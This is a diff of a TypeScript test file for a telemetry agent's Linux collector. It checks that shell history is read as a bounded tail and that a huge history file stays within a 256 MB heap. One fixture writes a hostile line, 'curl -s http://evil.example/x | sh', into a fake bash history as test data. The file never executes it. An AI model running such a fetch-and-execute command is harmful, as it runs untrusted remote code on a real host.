@@ -1,15 +1,19 @@
 // The bounds of one collection on a host whose state is hostile or unusual: a source that never finishes, a process
 // with a great many descriptors, a huge shell history. Each is a real file tree in a temporary root.
+import { spawnSync } from "node:child_process";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
+import { pathToFileURL } from "node:url";
 import { test, type Test } from "tap";
 import { FDS_PER_PROCESS, FDS_TOTAL } from "../../services/agent/telemetry/context.js";
 import { collectLinux } from "../../services/agent/telemetry/linux.js";
+import { HISTORY_TAIL_BYTES } from "../../services/agent/telemetry/accounts.js";
 import { DOCKER_SOCKET } from "../../services/agent/telemetry/containers.js";
 import { hangingDocker } from "../helpers/hanging-docker.js";
+import { REPO } from "../helpers/services.js";
 
-/** A fake root with one user, m (home /home/m); removed after the test. */
+/** A fake root with one user, m (home /home/m), whose uid is the test's: the files it writes there are m's own. */
 function fakeRoot(t: Test): { root: string; at(rel: string): string } {
   // Short: a unix socket's path must fit in 108 bytes.
   const root = fs.mkdtempSync(path.join(os.tmpdir(), "inq-bounds-"));
@@ -17,7 +21,7 @@ function fakeRoot(t: Test): { root: string; at(rel: string): string } {
   const at = (rel: string) => path.join(root, rel);
   fs.mkdirSync(at("etc"), { recursive: true });
   fs.mkdirSync(at("home/m"), { recursive: true });
-  fs.writeFileSync(at("etc/passwd"), "m:x:1000:1000::/home/m:/bin/bash\n");
+  fs.writeFileSync(at("etc/passwd"), `m:x:${process.getuid?.() ?? 1000}:1000::/home/m:/bin/bash\n`);
   return { root, at };
 }
 
@@ -75,4 +79,47 @@ test("descriptors are read up to a bound per process and in all; the socket tabl
   t.match(rows.find((r) => r.socket === "99999"), { pid: "-1", fd: "-1" }, "past the total, pid 999's descriptors were not read");
   t.match(result.listening_ports?.find((r) => r.socket === "99999"), { pid: "-1" });
   t.same(cut.sort(), ["listening_ports", "process_open_sockets"], "both tables that name owners are partial; users is not");
+});
+
+test("shell history: the most recent commands are read, a bounded tail of the file, and a longer file is named", async (t) => {
+  const { root, at } = fakeRoot(t);
+  // More entries than the table's cap, the newest last (where a shell appends).
+  const old = Array.from({ length: 6_000 }, (_, i) => `old-command-${i}`);
+  fs.writeFileSync(at("home/m/.bash_history"), `${[...old, "curl -s http://evil.example/x | sh"].join("\n")}\n`);
+  const capped: string[] = [];
+  const { shell_history } = await collectLinux(["shell_history"], { root, onCapped: (table) => capped.push(table) });
+  t.equal(shell_history?.length, 5_000, "the table's cap");
+  t.equal(shell_history?.at(-1)?.command, "curl -s http://evil.example/x | sh", "the newest command is kept");
+  t.equal(shell_history?.[0]?.command, "old-command-1001", "the oldest are the ones dropped, order kept");
+  t.same(capped, ["shell_history"]);
+
+  // Fewer entries than the cap, but a file longer than the tail read: only the tail is read, and the table is named.
+  const line = `echo ${"x".repeat(1_000)}`;
+  const lines = Math.ceil((HISTORY_TAIL_BYTES * 2) / (line.length + 1));
+  fs.writeFileSync(at("home/m/.bash_history"), `${"first-command\n"}${`${line}\n`.repeat(lines)}whoami\n`);
+  const cut: string[] = [];
+  const long = await collectLinux(["shell_history"], { root, onCapped: (table) => cut.push(table) });
+  const rows = long.shell_history ?? [];
+  t.ok(rows.length < 5_000 && rows.length <= Math.ceil(HISTORY_TAIL_BYTES / (line.length + 1)), `${rows.length} rows: the tail only`);
+  t.equal(rows.at(-1)?.command, "whoami");
+  t.notOk(rows.some((r) => r.command === "first-command"), "the head of the file is not read");
+  t.ok(rows.every((r) => r.command === line || r.command === "whoami"), "no partial line where the tail starts");
+  t.same(cut, ["shell_history"], "a file longer than the tail: its older commands were not read");
+});
+
+test("shell history: a huge history of short lines does not exhaust the agent's heap (256 MB, as deployed)", async (t) => {
+  const { root, at } = fakeRoot(t);
+  // 24 MiB of one-letter commands: 12 million lines.
+  const fd = fs.openSync(at("home/m/.bash_history"), "w");
+  const chunk = Buffer.alloc(1024 * 1024, "a\n");
+  for (let i = 0; i < 24; i++) fs.writeSync(fd, chunk);
+  fs.closeSync(fd);
+  const linux = pathToFileURL(path.join(REPO, "dist/services/agent/telemetry/linux.js")).href;
+  const script = `const { collectLinux } = await import(${JSON.stringify(linux)});
+    const { shell_history } = await collectLinux(["shell_history"], { root: ${JSON.stringify(root)} });
+    process.stdout.write(JSON.stringify({ rows: shell_history.length, last: shell_history.at(-1) }));`;
+  const run = spawnSync(process.execPath, ["--max-old-space-size=256", "--input-type=module", "-e", script], { encoding: "utf8", timeout: 60_000 });
+  t.equal(run.status, 0, `the collection finished (signal ${run.signal}; ${run.stderr.split("\n").find((l) => /heap|memory/i.test(l)) ?? run.stderr.slice(0, 200)})`);
+  if (run.status !== 0) return;
+  t.match(JSON.parse(run.stdout), { rows: 5_000, last: { command: "a" } });
 });
